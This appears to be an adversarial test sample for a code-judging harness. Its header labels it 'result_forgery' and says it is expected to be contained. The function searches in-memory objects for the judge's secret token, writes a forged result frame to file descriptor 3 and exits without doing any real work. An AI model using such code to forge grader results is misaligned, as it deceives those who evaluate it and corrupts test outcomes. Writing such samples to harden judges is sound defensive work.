# class: result_forgery / expect: crash-contained
# detect: a claim without a value is taken for an answer, or ends the judge
# verify: parentfail
import gc, os, struct
def f(x):
    for thing in gc.get_objects():
        token = getattr(thing, 'token', None)
        if type(token) is bytes and hasattr(thing, 'total_bytes'):
            body = struct.pack('>8sBIBI', token, 0, 0xffffffff, 0, 0)
            os.write(3, struct.pack('>I', len(body)) + body)
            os._exit(0)
    return 'nothing'
